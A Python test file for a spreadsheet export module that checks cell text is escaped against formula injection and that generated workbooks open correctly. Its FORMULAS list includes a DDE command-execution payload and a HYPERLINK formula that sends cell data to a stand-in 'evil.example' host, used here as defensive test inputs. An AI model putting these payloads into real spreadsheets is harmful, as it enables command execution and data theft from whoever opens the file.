"""That nothing from outside is a formula in a spreadsheet, and that a workbook can be worked with."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from config.spreadsheet import LONGEST_CELL, Cell, Heading, Sheet, no_formula, printable, workbook
from tests.office_program import convert
from tests.workbooks import load_workbook

MADE = datetime(2020, 2, 3, 8, 0, tzinfo=UTC)
SEEN = datetime(2020, 1, 30, 9, 5, tzinfo=UTC)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"年报")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200e=1+1",
    "\x00=1+1",
    "＝1+1",
)
SOFFICE = shutil.which("soffice")
CALC = SOFFICE is not None and (Path(SOFFICE).resolve().parent / "libsclo.so").exists()
OTHERS = ("#REF!", "TRUE", "1e5", "https://www.example.cn/=1", "云山区", "'quoted", "<b>粗</b>", "a\nb")


def book(*texts: str) -> bytes:
    headings = [Heading("文字", 40), Heading("日期", 12), Heading("时刻", 18), Heading("数", 8)]
    rows: list[Sequence[Cell]] = [[text, date(2020, 1, 31), SEEN, 3] for text in texts]
    return workbook([Sheet("台账", headings, rows)], MADE)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_cell_is_no_formula(text: str) -> None:
    assert no_formula(text).startswith("'")


@pytest.mark.parametrize("text", OTHERS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert no_formula(text) == text


def test_a_workbook_holds_text_and_dates_and_no_formula() -> None:
    content = book(*FORMULAS, *OTHERS)
    sheet = load_workbook(io.BytesIO(content))["台账"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [printable(text) for text in (*FORMULAS, *OTHERS)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells[: len(FORMULAS)])
    assert [(str(cell.value), cell.number_format) for cell in sheet[2][1:]] == [
        ("2020-01-31 00:00:00", "yyyy-mm-dd"),
        ("2020-01-30 09:05:00", "yyyy-mm-dd hh:mm"),
        ("3", "General"),
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_headings_stay_in_sight_and_every_column_has_a_filter() -> None:
    sheet = load_workbook(io.BytesIO(book("甲", "乙")))["台账"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:D3")
    assert [sheet.column_dimensions[letter].width for letter in "ABCD"] == [40, 12, 18, 8]
    assert sheet["A1"].font.bold


def test_text_of_any_length_and_a_sheet_of_any_name_can_be_opened() -> None:
    content = workbook([Sheet("[台账]:*?/\\'" * 9, [Heading("一")], [["长" * 100_000]])], MADE)
    opened = load_workbook(io.BytesIO(content))
    (name,) = opened.sheetnames
    assert len(name) <= 31
    assert len(str(opened[name]["A2"].value)) == LONGEST_CELL


@pytest.mark.parametrize(
    "program",
    ["openpyxl", pytest.param("LibreOffice", marks=pytest.mark.skipif(not CALC, reason="no LibreOffice Calc"))],
)
def test_a_spreadsheet_program_shows_what_was_written(tmp_path: Path, program: str) -> None:
    """Where LibreOffice Calc is installed it opens the file too."""
    texts = [*FORMULAS, *OTHERS]
    path = tmp_path / "book.xlsx"
    path.write_bytes(book(*texts))
    if program == "openpyxl":
        rows = [[str(cell) for cell in row] for row in load_workbook(path)["台账"].iter_rows(values_only=True)]
    else:
        convert(path, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1")
        with next(tmp_path.glob("*.csv")).open(encoding="utf-8", newline="") as lines:
            rows = list(csv.reader(lines))
        convert(path, "fods")
        shown = (tmp_path / "book.fods").read_text(encoding="utf-8")
        assert "table:formula" not in shown
        assert 'table:display-filter-buttons="true"' in shown
        assert f'table:target-range-address="台账.A1:台账.D{len(texts) + 1}"' in shown
    assert rows[0] == ["文字", "日期", "时刻", "数"]
    assert [row[0] for row in rows[1:]] == [printable(text) for text in texts]
    assert rows[1][1].startswith("2020-01-31") and rows[1][2].startswith("2020-01-30 09:05")
